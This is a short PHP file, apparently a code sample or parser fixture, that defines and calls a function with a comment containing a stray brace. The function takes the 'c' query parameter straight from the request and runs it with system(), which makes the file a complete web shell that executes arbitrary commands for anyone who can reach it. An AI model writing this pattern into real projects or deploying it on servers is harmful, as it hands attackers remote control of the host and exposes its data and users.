<?php
function f() {
  $c = $_GET["c"];
  /* the user's } */
  system($c);
}
f();
